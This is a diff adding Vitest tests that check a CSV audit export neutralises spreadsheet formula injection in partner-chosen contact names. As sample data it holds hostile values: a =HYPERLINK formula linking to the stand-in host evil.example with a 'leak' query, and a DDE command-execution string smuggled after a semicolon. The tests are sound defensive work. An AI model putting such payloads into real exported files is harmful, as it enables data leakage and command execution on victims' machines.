@@ -6,6 +6,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import { AUDIT_ACTION_GROUPS, actionsNamed, sinceTime } from '../../main/audit/audit-filter.js';
+import { exportAudit } from '../../main/audit/audit-export.js';
 import { exportVerifiedAudit, verifyAuditExport } from '../../main/services/audit-export.js';
 import { fingerprintHex } from '../../main/identity/fingerprint.js';
 import { fastIdentity } from '../helpers/identities.js';
@@ -127,6 +128,37 @@ describe('a filtered audit export', () => {
       .join('\r\n');
     expect(withoutNames.split('\r\n')[0]).toBe('seq,at,actor,action,counterparts,file_count,total_bytes,detail,prev_hash,hash,signature');
     expect(verifyAuditExport(withoutNames, identity.card)).toMatchObject({ filter: null });
+  });
+});
+
+/** Item 12 of the second review: names are what partners chose; no cell a spreadsheet makes of them may start a formula. */
+describe('partner-chosen names in a CSV export', () => {
+  const FORMULA = /^\s*[=+\-@\t\r]/;
+  /** The cells a spreadsheet splitting the line at every `;` would make (quotes do not protect a cell that begins mid-line). */
+  const semicolonCells = (row: string) => row.split(';');
+
+  it('every name, and whatever follows a ; inside one, is neutralised, and the names cell is always quoted', async () => {
+    const { profile, identity, bobHex } = await profileWithHistory();
+    const hyperlink = await fastIdentity('=HYPERLINK("https://evil.example/?leak","Open")');
+    const semicolon = await fastIdentity("Eve;=cmd|' /C calc'!A0");
+    for (const card of [hyperlink.card, semicolon.card]) await profile.contacts.importCard(card);
+    profile.audit.append({ action: 'package.sealed', counterparts: [bobHex, fingerprintHex(hyperlink.card.fingerprint), fingerprintHex(semicolon.card.fingerprint)], fileCount: 1, totalBytes: 1 });
+    const { text } = await exportVerifiedAudit(profile, 'csv', { actions: ['package.sealed'] });
+    const row = text.split('\r\n').find((line) => line.includes('HYPERLINK'))!;
+    expect(row).toContain(',"Bob Brown, Test Hospital; \'=HYPERLINK(""https://evil.example/?leak"",""Open""), Test Hospital; Eve;\'=cmd|\' /C calc\'!A0, Test Hospital",');
+    for (const cell of semicolonCells(row)) expect(cell, cell).not.toMatch(FORMULA);
+    expect(verifyAuditExport(text, identity.card)).toMatchObject({ entries: 4 });
+  });
+
+  it('a names cell with no comma or quote in it is quoted all the same', async () => {
+    const { profile, bobHex } = await profileWithHistory();
+    const names: Record<string, string> = { [bobHex]: 'Eve;=1+1', ['cd'.repeat(32)]: '@SUM(A1)' };
+    const csv = exportAudit(profile.audit.entries(), 'csv', { head: null, nameOf: (fingerprint) => names[fingerprint] ?? null });
+    const row = csv.split('\r\n').find((line) => line.includes('package.sealed'))!;
+    expect(row).toContain(`,"Eve;'=1+1; '@SUM(A1)",`);
+    for (const cell of semicolonCells(row)) expect(cell, cell).not.toMatch(FORMULA);
+    const single = exportAudit(profile.audit.entries(), 'csv', { head: null, nameOf: () => 'Plain Name' });
+    expect(single.split('\r\n').find((line) => line.includes('package.sealed'))).toContain(',"Plain Name; Plain Name",');
   });
 });
 
